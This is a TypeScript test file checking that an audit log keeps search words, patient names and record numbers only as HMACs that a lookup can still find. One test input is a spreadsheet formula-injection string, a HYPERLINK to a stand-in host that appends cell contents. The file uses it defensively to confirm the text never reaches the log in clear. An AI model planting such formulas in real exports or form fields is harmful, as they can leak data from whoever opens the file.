/**
 * What audit rows hold in clear: ids and names, counts and reasons. Query words, people's identifiers in
 * filters and anything typed as a target that is not an identifier are kept only as HMACs under the audit
 * key, and found again by `audit lookup`.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ErrorCode, isVaultError } from '../../../common/errors.js';
import { accessFixture, ROLE_USERS } from '../../support/access-fixture.js';

/** Every column of every row, as one string: what someone reading the file would see. */
function wholeLog(fixture: Awaited<ReturnType<typeof accessFixture>>): string {
  const db = fixture.database();
  try {
    return JSON.stringify(db.prepare('SELECT * FROM audit_log').raw().all());
  } finally {
    db.close();
  }
}

describe('audit rows', () => {
  it('keep query words and filter values as HMACs that lookup finds', async () => {
    const fixture = await accessFixture();
    const session = await fixture.open(ROLE_USERS.admin);
    session.traces.search({ query: 'refill "Zebediah Quarterfield"' });
    session.traces.list({ subjectId: 'MRN-4471-PQ' });
    const log = wholeLog(fixture);
    for (const secret of ['Zebediah', 'Quarterfield', 'MRN-4471-PQ', 'refill']) {
      assert.ok(!log.includes(secret), `${secret} is not in the log in clear`);
    }
    const bySurname = session.audit.lookup('quarterfield');
    assert.deepEqual(
      bySurname.map((r) => r.operation),
      ['traces.search'],
    );
    assert.deepEqual(
      session.audit.lookup('MRN-4471-PQ').map((r) => r.operation),
      ['traces.list'],
    );
    await session.close();
  });

  it('keep a target that is not an identifier only as an HMAC', async () => {
    const fixture = await accessFixture();
    const session = await fixture.open(ROLE_USERS.admin);
    const typed = '=HYPERLINK("http://x.example/"&A1) Jane Roe';
    assert.throws(
      () => session.traces.get(typed),
      (e: unknown) => isVaultError(e, ErrorCode.NOT_FOUND),
    );
    assert.ok(!wholeLog(fixture).includes('HYPERLINK'), 'the typed text is not in the log');
    const [row] = session.audit.lookup(typed);
    assert.equal(row?.operation, 'traces.get');
    assert.equal(row?.target, '');
    assert.equal(row?.result, 'error');
    // An id is kept in clear: "who read what" needs no key to answer.
    session.traces.get('t-own');
    assert.equal(session.audit.query({ trace: 't-own' }).at(-1)?.target, 't-own');
    await session.close();
  });
});
